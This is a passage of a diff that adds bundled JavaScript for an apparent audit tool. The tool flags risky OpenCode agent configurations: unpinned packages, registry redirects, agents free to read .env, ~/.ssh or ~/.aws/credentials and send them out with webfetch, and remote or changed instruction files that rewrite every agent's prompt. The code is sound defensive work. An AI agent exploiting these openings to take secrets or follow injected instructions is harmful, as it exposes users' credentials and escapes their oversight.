+            if (spec === undefined || key.startsWith('@types/') || dependencies_in_opencode_dir_EXACT.test(spec) || COMMIT.test(spec))
+                continue;
+            const { path, line } = node.place;
+            const message = `OpenCode installs ${quoteName(key)} at ${quoteName(spec)} into this folder whenever it starts here: whoever publishes the next version puts code beside the plugins and tools that import it.`;
+            const remedy = 'Write the exact version, and keep the lock file beside it.';
+            const version = knownVersion(context, key);
+            const pinned = version === null ? {} : suggesting(context, node.place, version);
+            yield { path, line, message, scope: `${kind}.${key}`, remedy, ...pinned };
+        }
+    }
+}
+/** OpenCode's installer reads this file as npm does. */
+function* redirects(asset) {
+    for (const [index, text] of asset.lines.entries()) {
+        const key = /^\s*((?:@[\w.-]+:)?registry|proxy|https-proxy|strict-ssl|cafile|ca)\s*=/i.exec(text)?.[1];
+        if (key === undefined || /^\s*strict-ssl\s*=\s*true\s*$/i.test(text))
+            continue;
+        const message = `The setting ${quoteName(key)} decides where OpenCode gets the packages that it installs and imports when it starts here, its own plugin interface included.`;
+        const remedy = 'Remove the line; a mirror of the company belongs into the settings of the machine, which no pull request can change.';
+        yield { path: asset.path, line: index + 1, message, remedy };
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/doom-loop-open.js
+
+
+
+
+
+const doomLoopOpen = {
+    id: 'doom-loop-open',
+    title: 'A loop of equal calls is not stopped',
+    summary: 'The question that OpenCode asks when a tool repeats itself is taken away.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(doom_loop_open_casesOf(context))) {
+            const message = `OpenCode no longer stops ${nameAgents(agents)} when a tool is called again and again with the same input: it goes on until the time or the money is gone.`;
+            yield { ...spot, message, remedy: doom_loop_open_REMEDY, ...withAction(context, value, 'ask') };
+        }
+    },
+};
+const doom_loop_open_REMEDY = 'Leave doom_loop out, or set it to "ask"; without anybody to answer, "deny" ends the run.';
+/** Written for this key; what is written for every key has rules of its own. */
+function* doom_loop_open_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const rule = decidingRule(agent.rules, 'doom_loop', PROBES.doom_loop);
+        if (rule?.action !== 'allow' || rule.origin === null || matchesAll(rule.permission))
+            continue;
+        yield { spot: spotOfRule(rule), agent, value: rule };
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/dead-keys.js
+/** Keys that OpenCode asks for nothing under, with the key that does what they promise; null where none does. */
+const DEAD_KEYS = new Map([
+    ['write', 'edit'],
+    ['patch', 'edit'],
+    ['apply_patch', 'edit'],
+    ['multiedit', 'edit'],
+    ['list', null],
+    ['todoread', null],
+    ['codesearch', null],
+]);
+/** The limits that an agent has under keys for editing that have no effect. */
+function deadEditDenials(agent) {
+    return agent.rules.filter((rule) => rule.origin !== null && rule.action !== 'allow' && DEAD_KEYS.get(rule.permission) === 'edit');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/edit-in-reviewer.js
+
+
+
+
+
+
+const editInReviewer = {
+    id: 'edit-in-reviewer',
+    title: 'A reviewer may edit files',
+    summary: 'An agent that reviews may change the files that it judges.',
+    severity: 'medium',
+    confidence: 'medium',
+    category: 'permissions',
+    *check(context) {
+        for (const { agent } of agentsOf(context)) {
+            const rule = isReviewer(agent) ? openingRule(agent, 'edit') : null;
+            const spot = rule === null || isShownElsewhere(context, agent, rule) ? null : spotOf(agent, rule);
+            if (rule === null || spot === null)
+                continue;
+            const message = `The agent ${quoteName(agent.name)} is a reviewer by its name or description, and may edit any file without asking.`;
+            yield { ...spot, message, remedy: edit_in_reviewer_REMEDY, ...edit_in_reviewer_offerFor(context, agent, rule, spot) };
+        }
+    },
+};
+const edit_in_reviewer_REMEDY = 'Add edit: deny to its permission; keys such as write or patch have no effect in OpenCode.';
+/** What allows everything, and a denial under a dead key, have rules that say more. */
+function isShownElsewhere(context, agent, rule) {
+    if (isShownAsAllowAll(agent, rule) && isOn(context, 'permission-allow-all'))
+        return true;
+    return deadEditDenials(agent).length > 0 && isOn(context, 'rule-dead');
+}
+function edit_in_reviewer_offerFor(context, agent, rule, spot) {
+    if (rule.origin?.path === spot.path && rule.origin.line === spot.line)
+        return withAction(context, rule, 'deny');
+    return withPermission(context, agent, 'edit', 'deny');
+}
+
+;// CONCATENATED MODULE: ./build/audit/substitutions.js
+const substitutions_TOKEN = /\{(env|file):([^{}\n]{1,4096})\}/g;
+/** What OpenCode puts into a text of its configuration before it parses it. */
+function substitutionsIn(text) {
+    return [...text.matchAll(substitutions_TOKEN)].map((match) => ({
+        kind: match[1] === 'file' ? 'file' : 'env',
+        what: (match[2] ?? '').trim(),
+        index: match.index,
+    }));
+}
+/** The text with a plain word in place of each substitution. */
+function withoutSubstitutions(text) {
+    return text.replace(substitutions_TOKEN, 'substituted');
+}
+/** A file of the repository itself: `{file:./prompts/review.txt}`, from the folder of the file `from`. */
+function isRepositoryFile(path, from) {
+    if (/^(?:[~/\\]|[A-Za-z]:|\$)/.test(path))
+        return false;
+    const way = from.split('/').slice(0, -1);
+    for (const step of path.split(/[\\/]/)) {
+        if (step === '..' && way.pop() === undefined)
+            return false;
+        if (step !== '..' && step !== '.' && step !== '')
+            way.push(step);
+    }
+    return way[0] !== '.git';
+}
+
+;// CONCATENATED MODULE: ./build/audit/address.js
+
+/** Null for what is no address, or whose beginning is only known when it runs. */
+function parseAddress(text) {
+    const filled = withoutSubstitutions(text.trim());
+    if (!URL.canParse(filled))
+        return null;
+    const { protocol, hostname, origin } = new URL(filled);
+    return { protocol: protocol.slice(0, -1), host: hostname, origin, isLoopback: isLoopback(hostname) };
+}
+function isRemote(text) {
+    const address = parseAddress(text);
+    return address !== null && /^(?:https?|wss?)$/.test(address.protocol) && !address.isLoopback;
+}
+/** Whether a host is `domain` or below it. */
+function isWithin(host, domain) {
+    return host === domain || host.endsWith(`.${domain}`);
+}
+/** As a parsed address writes it: 127.1 is 127.0.0.1 there, and `127.example.org` stays a name. */
+function isLoopback(host) {
+    if (host === 'localhost' || host.endsWith('.localhost'))
+        return true;
+    return /^127(?:\.\d{1,3}){3}$/.test(host) || host === '0.0.0.0' || host === '[::1]' || host === '[::]';
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/enterprise-url.js
+
+
+
+
+const enterpriseUrl = {
+    id: 'enterprise-url',
+    title: 'Shared sessions go to another server',
+    summary: 'The repository decides to which server shared sessions are uploaded.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const node of effective(context, 'enterprise')) {
+            const url = get(node, 'url');
+            const text = stringOf(url);
+            if (url === undefined || text === undefined || text === '')
+                continue;
+            const address = parseAddress(text);
+            if (address?.isLoopback)
+                continue;
+            const { path, line } = url.place;
+            const message = `Every session that somebody shares, with the code in it, is uploaded to ${quoteName(address?.host ?? text)}; the people who share it see only the command that they know.`;
+            yield { path, line, message, scope: 'enterprise.url', remedy: enterprise_url_REMEDY };
+        }
+    },
+};
+const enterprise_url_REMEDY = 'Set it in the managed configuration of the machines, which no pull request can change; or have the owners accept this exact line.';
+
+;// CONCATENATED MODULE: ./build/audit/fetch-leak.js
+
+
+/**
+ * Null when it may not do both; also where nobody wrote that fetching is allowed, and where any command runs: there
+ * are more ways out then, and rules for them.
+ */
+function fetchLeak(agent) {
+    const rule = openingRule(agent, 'webfetch');
+    const secret = secretOf(agent);
+    if (rule === null || rule.origin === null || secret === null || isShownAsAllowAll(agent, rule))
+        return null;
+    return openingRule(agent, 'bash') === null ? { rule, secret } : null;
+}
+function secretOf(agent) {
+    if (openingRule(agent, 'external_directory') !== null)
+        return 'files such as ~/.ssh/id_ed25519';
+    return evaluate(agent.rules, 'read', '.env') === 'allow' ? '.env files' : null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/env-guard-removed.js
+
+
+
+
+
+
+
+const envGuardRemoved = {
+    id: 'env-guard-removed',
+    title: 'OpenCode no longer asks before it reads .env',
+    summary: 'A rule for "read" takes away the question that OpenCode asks before it reads .env files.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(env_guard_removed_casesOf(context))) {
+            const { rule, sends } = value;
+            const out = sends ? ', and may send them anywhere with "webfetch"' : '';
+            const message = `${agentsMay(agents)} read .env files without a question${out}: the last rule that matches decides, and this one comes after the built-in "*.env": "ask".`;
+            const offer = rule.permission === 'read' && matchesAll(rule.pattern) ? withAction(context, rule, GUARDED) : {};
+            yield { ...spot, message, remedy: env_guard_removed_REMEDY, ...offer };
+        }
+    },
+};
+const GUARDED = [
+    ['*', 'allow'],
+    ['*.env', 'deny'],
+    ['*.env.*', 'deny'],
+    ['*.env.example', 'allow'],
+];
+const env_guard_removed_REMEDY = 'Leave the rule out, because reading is allowed anyway, or write the patterns: "*": "allow", then "*.env" and "*.env.*": "deny".';
+/** A map of patterns for "read" is judged by read-without-env-deny. */
+function* env_guard_removed_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const rule = decidingRule(agent.rules, 'read', '.env');
+        if (rule === undefined || !removesGuard(context, agent, rule))
+            continue;
+        const sends = evaluate(agent.rules, 'webfetch', PROBES.webfetch) === 'allow';
+        yield { spot: spotOfRule(rule), agent, value: { rule, sends } };
+    }
+}
+/** Where fetching is allowed in so many words, webfetch-with-secrets says the same and more. */
+function removesGuard(context, agent, rule) {
+    if (rule.action !== 'allow' || rule.origin === null || isShownAsAllowAll(agent, rule))
+        return false;
+    if (isOn(context, 'webfetch-with-secrets') && fetchLeak(agent) !== null)
+        return false;
+    return !(isInMap(rule) && matchesAll(rule.pattern));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/external-directory-open.js
+
+
+
+
+
+const externalDirectoryOpen = {
+    id: 'external-directory-open',
+    title: 'Every folder of the machine is open',
+    summary: 'An agent may leave the repository for any folder, or for the whole home folder, without asking.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(external_directory_open_casesOf(context))) {
+            const writes = value.edits ? ', and write ~/.bashrc' : '';
+            const message = `${agentsMay(agents)} leave the repository unasked: read ~/.ssh and ~/.aws/credentials${writes}.`;
+            const severity = value.edits ? {} : { severity: 'medium' };
+            yield { ...spot, message, remedy: external_directory_open_REMEDY, ...severity, ...withAction(context, value.rule, 'ask') };
+        }
+    },
+};
+const external_directory_open_REMEDY = 'Set external_directory to "ask", and allow single folders after it: "*": "ask", then "/srv/fixtures/*": "allow".';
+/** The whole home folder, however it is written. */
+const HOME_FOLDER = /^(?:<home>|\/home\/\w+|\/Users\/\w+|\/root|\/home|\/Users)(?:\/\*+)?$/;
+function* external_directory_open_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const rule = openingRule(agent, 'external_directory') ?? homeRule(agent);
+        if (rule === null || rule.origin === null || isShownAsAllowAll(agent, rule))
+            continue;
+        const edits = openingRule(agent, 'edit') !== null;
+        yield { spot: spotOfRule(rule), agent, value: { rule, edits } };
+    }
+}
+function homeRule(agent) {
+    const rule = agent.rules.find((one) => one.action === 'allow' &&
+        matches(one.permission, 'external_directory') &&
+        HOME_FOLDER.test(one.pattern));
+    if (rule === undefined)
+        return null;
+    return decidingRule(agent.rules, 'external_directory', rule.pattern) === rule ? rule : null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/formatter-or-lsp-command.js
+
+
+
+
+const formatterOrLspCommand = {
+    id: 'formatter-or-lsp-command',
+    title: 'A formatter or language server with a command of its own',
+    summary: 'The configuration names a command that OpenCode runs when an agent touches a file.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const kind of ['formatter', 'lsp']) {
+            for (const { key, node } of effectiveEntries(context, kind)) {
+                const command = textsInList(get(node, 'command'));
+                const first = itemsOf(get(node, 'command'))[0];
+                if (first === undefined || booleanOf(get(node, 'disabled')) === true)
+                    continue;
+                const words = command.map((word) => word.text).join(' ');
+                const { path, line } = first.place;
+                const message = `OpenCode runs ${quoteName(words)} (${kind} ${quoteName(key)}) ${WHEN[kind]}, without any permission: also for an agent that may not use bash.`;
+                yield { path, line, message, identity: `${kind} ${key}\n${words}`, remedy: formatter_or_lsp_command_REMEDY };
+            }
+        }
+    },
+};
+const WHEN = {
+    formatter: 'after an agent edits a file',
+    lsp: 'when an agent reads or edits a file',
+};
+const formatter_or_lsp_command_REMEDY = 'Use the formatters and language servers that OpenCode knows by name, or run the formatter in a commit hook or job; or have the owners accept this exact command.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/frontmatter-executes.js
+const frontmatterExecutes = {
+    id: 'frontmatter-executes',
+    title: 'The front matter is a program',
+    summary: 'The front matter of a file is JavaScript, which OpenCode runs when it reads the file.',
+    severity: 'critical',
+    confidence: 'high',
+    category: 'code-execution',
+    *check({ project }) {
+        for (const asset of project.assets.values()) {
+            for (const { kind, path, line } of asset.problems) {
+                if (kind !== 'executes')
+                    continue;
+                const message = 'The front matter is JavaScript: OpenCode runs it as soon as it starts here, with all rights of the user and before any permission applies.';
+                yield { path, line, message, identity: `content\n${asset.text ?? ''}`, remedy: frontmatter_executes_REMEDY };
+            }
+        }
+    },
+};
+const frontmatter_executes_REMEDY = 'Write the front matter as YAML, between two lines of ---.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/frontmatter-fails-open.js
+const frontmatterFailsOpen = {
+    id: 'frontmatter-fails-open',
+    title: 'An agent loads without its restrictions',
+    summary: 'OpenCode cannot read the front matter of an agent, drops it, and loads the agent with no restriction at all.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check({ project }) {
+        for (const asset of project.assets.values()) {
+            if (asset.kind !== 'agent' && asset.kind !== 'mode')
+                continue;
+            for (const { kind, path, line, message } of asset.problems) {
+                if (kind !== 'fails-open')
+                    continue;
+                const evidence = asset.lines[line - 1] ?? '';
+                const suggestion = quotedKey(evidence);
+                const hit = { path, line, message, scope: message, remedy: frontmatter_fails_open_REMEDY };
+                yield suggestion === null ? hit : { ...hit, suggestion };
+            }
+        }
+    },
+};
+const frontmatter_fails_open_REMEDY = 'Correct the front matter; in YAML, a key such as * or *.env must be in quotes.';
+/** `*: deny` and `*.env: deny` only lack their quotes. */
+function quotedKey(line) {
+    if (line.length > 300)
+        return null;
+    const match = /^(\s*)([*][^\s:'"]*|[^\s:'"]*[*][^:'"]*?)(\s*:\s*(?:allow|ask|deny)\s*)$/.exec(line);
+    return match === null ? null : `${match[1] ?? ''}"${match[2] ?? ''}"${match[3] ?? ''}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/global-loosens-builtin.js
+
+
+
+
+const globalLoosensBuiltin = {
+    id: 'global-loosens-builtin',
+    title: "A rule for all agents opens OpenCode's read-only agents",
+    summary: 'A permission for all agents allows editing, also to the built-in agents that OpenCode denies it to.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, agents } of bySpot(global_loosens_builtin_casesOf(context))) {
+            const message = `This comes after OpenCode's own rules and undoes their denial: ${nameAgents(agents)}, which people take for read-only, may edit any file unasked.`;
+            const remedy = `Move it to the agents that edit, or deny it again: "agent": { ${agents.map((name) => `"${name}": { "permission": { "edit": "deny" } }`).join(', ')} }.`;
+            yield { ...spot, message, remedy };
+        }
+    },
+};
+function* global_loosens_builtin_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const rule = isReadOnly(agent) ? openingRule(agent, 'edit') : null;
+        if (rule === null || rule.origin === null || isOwn(rule) || isShownAsAllowAll(agent, rule))
+            continue;
+        yield { spot: spotOfRule(rule), agent, value: rule };
+    }
+}
+function isReadOnly(agent) {
+    const builtIn = BUILT_INS.find(({ name, hidden }) => name === agent.name && !hidden);
+    return (builtIn !== undefined && evaluate([...DEFAULT_RULES, ...builtIn.rules], 'edit', PROBES.edit) === 'deny');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/instructions-changed.js
+
+
+
+
+
+const instructionsChanged = {
+    id: 'instructions-changed',
+    title: 'What every agent is told changes',
+    summary: 'The pull request changes a file that OpenCode puts into the prompt of every agent, or the list of such files.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'governance',
+    *check(context) {
+        const base = atBase(context);
+        if (base === null)
+            return;
+        yield* changedFiles(context);
+        const had = new Set([...listed(base)].map(({ text }) => text));
+        for (const { text, place } of listed(context)) {
+            if (had.has(text))
+                continue;
+            const message = `The change puts ${quoteName(text)} into the prompt of every agent.`;
+            yield { path: place.path, line: place.line, message, scope: `instructions ${text}`, remedy: instructions_changed_REMEDY };
+        }
+    },
+};
+const instructions_changed_REMEDY = 'Read it as an order to every agent: what it tells them to skip, to trust, to send or to run. Give the file an owner in CODEOWNERS.';
+/** Files that OpenCode takes by their name; a deleted one, too. */
+function* changedFiles(context) {
+    for (const file of context.change.files) {
+        const now = instructionsAt(context.project.assets.get(file.path));
+        const before = instructionsAt(context.base?.assets.get(file.basePath));
+        if (isSame(now, before))
+            continue;
+        const line = now === null ? 0 : firstAdded(file);
+        const message = `${verbFor(now, before)}: OpenCode puts this file into the prompt of every agent that works here.`;
+        const identity = `content\n${now?.text ?? touchedBlobs(file.path, context)}`;
+        yield { path: file.path, line, message, identity, remedy: instructions_changed_REMEDY };
+    }
+}
+/** Also for a file that is none on either side; one that was not read is never the same. */
+function isSame(now, before) {
+    if (now === null || before === null)
+        return now === before;
+    return now.text === before.text && now.text !== null;
+}
+function firstAdded({ hunks }) {
+    const added = hunks.flatMap((hunk) => hunk.lines).find((line) => line.kind === 'added');
+    return added?.headLine ?? 0;
+}
+function instructionsAt(asset) {
+    return asset?.kind === 'instructions' ? asset : null;
+}
+function verbFor(now, before) {
+    if (now === null)
+        return 'The change takes these instructions away';
+    return before === null ? 'The change adds instructions' : 'The change rewrites these instructions';
+}
+/** The files and globs under `instructions`; addresses are instructions-remote's. */
+function* listed(context) {
+    for (const { asset, root } of configsOf(context)) {
+        for (const item of itemsOf(get(root, 'instructions'))) {
+            const text = stringOf(item);
+            if (text === undefined || /^https?:/i.test(text))
+                continue;
+            yield { key: 'instructions', text, place: item.place, from: asset.path };
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/instructions-remote.js
+
+
+
+
+
+const instructionsRemote = {
+    id: 'instructions-remote',
+    title: 'Instructions from an address',
+    summary: 'OpenCode fetches instructions from the network and puts them into every prompt.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        for (const { root } of configsOf(context)) {
+            for (const { text, place } of textsInList(get(root, 'instructions'))) {
+                if (!isRemote(text))
+                    continue;
+                const { path, line } = place;
+                const message = `Whoever controls ${quoteName(text)} writes into the system prompt of every agent here, anew at every step and without a trace in any diff.`;
+                yield { path, line, message, scope: 'instructions', remedy: instructions_remote_REMEDY };
+            }
+        }
+    },
+};
+const instructions_remote_REMEDY = 'Copy the text into a file of the repository and name that file.';
+
+;// CONCATENATED MODULE: ./build/audit/permission-blocks.js
+
+
+
+
+function* permissionBlocks({ project }) {
+    for (const asset of project.assets.values()) {
+        if (asset.root === null)
+            continue;
+        if (asset.kind === 'agent' || asset.kind === 'mode') {
+            yield* blocksIn(asset, asset.root, stringOf(get(asset.root, 'name')) ?? asset.name, '');
+        }
+        if (asset.kind !== 'config')
+            continue;
+        yield* blocksIn(asset, asset.root, null, '');
+        for (const key of ['agent', 'agents', 'mode']) {
+            for (const agent of entriesOf(get(asset.root, key))) {
+                yield* blocksIn(asset, agent.node, agent.key, `${key}.${agent.key}.`);
+            }
+        }
+    }
+}
+function* blocksIn(asset, owner, agent, before) {
+    if (owner.kind !== 'object' || booleanOf(get(owner, 'disable')) === true)
+        return;
+    for (const kind of ['permission', 'tools']) {
+        const entry = owner.entries.get(kind);
+        if (entry !== undefined)
+            yield { asset, kind, agent, owner, entry, way: `${before}${kind}` };
+    }
+}
+/** The keys of a block that mean something: none where one word stands for all. */
+function permission_blocks_keysOf(block) {
+    return entriesOf(block.entry.node);
+}
+/** The rules of a `permission` block, in their order; empty for `tools`. */
+function rulesOf(block) {
+    return block.kind === 'tools' ? [] : permissionRules(normalisePermission(block.entry.node), block.way);
+}
+/** Says which agents a block counts for: those that have a rule which is written in it. */
+function agentsByBlock(context) {
+    const byPlace = new Map();
+    for (const { agent } of agentsOf(context)) {
+        for (const { origin } of agent.rules) {
+            if (origin === null)
+                continue;
+            const agents = byPlace.get(idOf(origin)) ?? new Set();
+            byPlace.set(idOf(origin), agents.add(agent));
+        }
+    }
+    return (block) => {
+        const places = [block.entry.node.place, ...permission_blocks_keysOf(block).flatMap(placesOf)];
+        return [...new Set(places.flatMap((place) => [...(byPlace.get(idOf(place)) ?? [])]))];
+    };
+}
+function placesOf(key) {
+    return [key.place, ...entriesOf(key.node).map((inner) => inner.place)];
+}
+function idOf({ path, line, column }) {
+    return `${path}\0${line}\0${column}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/tools-as-permission.js
+
+
+const HEAD = /^\s*(["']?)tools\1\s*:\s*\{?\s*$/;
+const KEY = /^(\s*)("[^"\\]+"|'[^']+'|[\w-]+)(\s*:\s*)(true|false)(,?)\s*$/;
+const MAX_LINES = 60;
+/** The lines of a `tools` block as a `permission`; empty when anything but one plain key on each line is in it. */
+function toolsAsPermission({ project }, block) {
+    const { path, line } = block.entry.place;
+    const keys = permission_blocks_keysOf(block);
+    const isPlain = keys.every(({ place }, index) => place.line === line + 1 + index);
+    if (!isPlain || keys.length > MAX_LINES || get(block.owner, 'permission') !== undefined)
+        return {};
+    const lines = project.assets.get(path)?.lines.slice(line - 1, line + keys.length) ?? [];
+    const suggestion = translate(lines, path.endsWith('.md') ? YAML : JSON_MARKS);
+    return suggestion === null ? {} : { endLine: line + keys.length, suggestion };
+}
+const YAML = { quote: '', comma: '' };
+const JSON_MARKS = { quote: '"', comma: ',' };
+/** A key that becomes the same as an earlier one keeps its place and takes the later value. */
+function translate(lines, { quote, comma }) {
+    const head = HEAD.exec(lines[0] ?? '');
+    const parts = lines.slice(1).map((text) => KEY.exec(text));
+    if (head === null || parts.some((part) => part === null))
+        return null;
+    const written = new Map();
+    for (const [, indent = '', key = '', colon = '', value] of parts.filter((part) => part !== null)) {
+        const name = key.replace(/^(["']?)(?:write|patch)\1$/, '$1edit$1');
+        written.set(name, `${indent}${name}${colon}${quote}${value === 'true' ? 'allow' : 'deny'}${quote}`);
+    }
+    const first = (lines[0] ?? '').trimEnd().replace('tools', 'permission');
+    return `${first}\n${[...written.values()].join(`${comma}\n`)}${parts.at(-1)?.[5] ?? ''}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/legacy-tools.js
+
+
+
+
+const legacyTools = {
+    id: 'legacy-tools',
+    title: 'The old key "tools" in place of "permission"',
+    summary: 'The deprecated key "tools" sets permissions, and has no words for patterns and questions.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'configuration',
+    *check(context) {
+        for (const block of permissionBlocks(context)) {
+            const keys = permission_blocks_keysOf(block).filter(({ node }) => booleanOf(node) !== undefined);
+            if (block.kind !== 'tools' || keys.length === 0)
+                continue;
+            yield { ...legacy_tools_hitFor(block, keys), ...toolsAsPermission(context, block) };
+        }
+    },
+};
+const legacy_tools_REMEDY = 'Write the same under "permission", with deny, ask or allow for each key; "write" and "patch" are called "edit" there.';
+function legacy_tools_hitFor({ owner, entry, way }, keys) {
+    const { path, line } = entry.place;
+    const named = (value) => keys.filter(({ node }) => booleanOf(node) === value).map(({ key }) => key);
+    const on = named(true);
+    const off = named(false);
+    const parts = [
+        ...(off.length > 0 ? [`${quoteNames(off)} ${off.length === 1 ? 'is' : 'are'} denied`] : []),
+        ...(on.length > 0
+            ? [`${quoteNames(on)} ${on.length === 1 ? 'is' : 'are'} allowed with no question left`]
+            : []),
+    ];
+    const beside = get(owner, 'permission') === undefined
+        ? ''
+        : ' "permission" beside it wins key by key, but in the order that the keys have here.';
+    const message = `OpenCode makes permissions of this: ${parts.join(', ')}.${beside}`;
+    return { path, line, message, scope: way, remedy: legacy_tools_REMEDY };
+}
+
+;// CONCATENATED MODULE: ./build/policy/expired.js
+/** Whether an entry still counts; `today` and `expires` are YYYY-MM-DD, and the last day is included. */
+function isCurrent(entry, today) {
+    return entry.expires === undefined || today <= entry.expires;
+}
+/** Every entry of the policy that no longer counts. */
+function expiredEntries(policy, today) {
+    const exceptions = Object.entries(policy.agents).flatMap(([index, entry]) => isCurrent(entry, today) ? [] : [{ list: 'agents', index, expires: entry.expires ?? '' }]);
+    const entries = ['mcp', 'plugins', 'accepted'].flatMap((list) => policy[list].flatMap((entry, index) => isCurrent(entry, today) ? [] : [{ list, index, expires: entry.expires ?? '' }]));
+    return [...exceptions, ...entries];
+}
+
+;// CONCATENATED MODULE: ./build/audit/approved.js
+
+/** Whether the policy names this server in exactly this form; mcp-unapproved says what else it must be. */
+function isApprovedServer({ name, url, command }, { policy, today }) {
+    const words = JSON.stringify(command.map((word) => word.text));
+    return policy.mcp.some((entry) => entry.name === name &&
+        isCurrent(entry, today) &&
+        (url === null ? JSON.stringify(entry.command) === words : entry.url === url.text));
+}
+function isApprovedPlugin(spec, { policy, today }) {
+    return policy.plugins.some((entry) => entry.plugin === spec && isCurrent(entry, today));
+}
+
+;// CONCATENATED MODULE: ./build/audit/servers.js
+
+
+
+
+
+/** Every server of every set-up, each once; also those that are switched off. */
+function serversOf(context) {
+    const seen = new Set();
+    return effective(context, 'mcp')
+        .flatMap(serverEntries)
+        .filter((entry) => !seen.has(entry.node) && seen.add(entry.node))
+        .map(serverOf);
+}
+/** The servers below the `mcp` key of one configuration. */
+function serversIn(mcp) {
+    return mcp === undefined ? [] : serverEntries(mcp).map(serverOf);
+}
+/** What a server is recognised by: all of it, so that one that changes is not taken for the old one. */
+function servers_identityOf({ name, node }) {
+    return `${name}\n${JSON.stringify(toValue(node))}`;
+}
+/** The servers that OpenCode starts or calls. */
+function activeServers(context) {
+    return serversOf(context).filter((server) => server.enabled);
+}
+/** The address of a server on another machine; null for a local one. */
+function remoteAddress(server) {
+    const address = server.url === null ? null : parseAddress(server.url.text);
+    if (server.url === null || address === null || address.isLoopback)
+        return null;
+    return { url: server.url, host: address.host };
+}
+/** The servers below one `mcp` key, in both spellings. */
+function serverEntries(mcp) {
+    const config = {
+        kind: 'object',
+        place: mcp.place,
+        entries: new Map([['mcp', { key: 'mcp', place: mcp.place, node: mcp }]]),
+    };
+    return mcpServersOf(config);
+}
+function serverOf({ key, place, node }) {
+    const address = textsByKey(node).find((text) => text.key === 'url');
+    return {
+        name: key,
+        place,
+        enabled: booleanOf(get(node, 'enabled')) !== false,
+        command: textsInList(get(node, 'command')),
+        url: address ?? null,
+        headers: textsByKey(get(node, 'headers')),
+        environment: [...textsByKey(get(node, 'environment')), ...textsByKey(get(node, 'env'))],
+        node,
+    };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-added.js
+
+
+
+
+const mcpAdded = {
+    id: 'mcp-added',
+    title: 'A new MCP server',
+    summary: 'The pull request adds an MCP server, or switches one on, that the policy does not approve.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        const base = atBase(context);
+        if (base === null)
+            return;
+        const had = new Set(activeServers(base).map(({ name }) => name));
+        const off = new Set(serversOf(base).map(({ name }) => name));
+        for (const server of activeServers(context)) {
+            if (had.has(server.name) || isApprovedServer(server, context))
+                continue;
+            const what = off.has(server.name) ? 'switches on' : 'adds';
+            const message = `The change ${what} the MCP server ${quoteName(server.name)}: ${effectOf(server)}.`;
+            yield { ...server.place, message, identity: servers_identityOf(server), remedy: mcp_added_REMEDY };
+        }
+    },
+};
+const mcp_added_REMEDY = 'Have the owners look at the server, and name it with its exact command or url under "mcp" in the policy on the base branch; limit its tools to the agents that need them.';
+function effectOf({ url }) {
+    return url === null
+        ? 'OpenCode starts its command with all rights and all of the environment of the user, and offers its tools to the agents'
+        : 'OpenCode sends it what agents pass to its tools, and what it answers goes into the prompt';
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-changed.js
+
+
+
+
+
+const mcpChanged = {
+    id: 'mcp-changed',
+    title: 'An MCP server is another one',
+    summary: 'The pull request changes what an MCP server runs, where it is, or what it is given.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        const base = atBase(context);
+        if (base === null)
+            return;
+        const before = byName(base);
+        for (const server of activeServers(context)) {
+            const had = before.get(server.name) ?? [];
+            const contents = new Set(had.map(servers_identityOf));
+            const [first] = had;
+            if (first === undefined || contents.has(servers_identityOf(server)) || isApprovedServer(server, context))
+                continue;
+            const parts = partsChanged(first, server);
+            if (parts.length === 0)
+                continue;
+            const message = `The change gives the MCP server ${quoteName(server.name)} ${mcp_changed_listOf(parts)}: under the name that people know, OpenCode starts or calls something else.`;
+            yield { ...server.place, message, identity: servers_identityOf(server), remedy: mcp_changed_REMEDY };
+        }
+    },
+};
+const mcp_changed_REMEDY = 'Compare it with the base line by line; if it is right, name its exact command or url under "mcp" in the policy on the base branch.';
+function byName(context) {
+    const servers = new Map();
+    for (const server of activeServers(context)) {
+        servers.set(server.name, [...(servers.get(server.name) ?? []), server]);
+    }
+    return servers;
+}
+/** What differs, by its name only: a value may be a credential. */
+function partsChanged(before, now) {
+    const differs = (of) => mcp_changed_textOf(of(before)) !== mcp_changed_textOf(of(now));
+    const parts = [
+        differs(({ command }) => command) ? 'another command' : '',
+        differs(({ url }) => (url === null ? [] : [url])) ? 'another url' : '',
+        differs(({ headers }) => headers) ? 'other headers' : '',
+        differs(({ environment }) => environment) ? 'another environment' : '',
+    ].filter((part) => part !== '');
+    return parts.length > 0 || !restDiffers(before, now) ? parts : ['other settings'];
+}
+function mcp_changed_textOf(texts) {
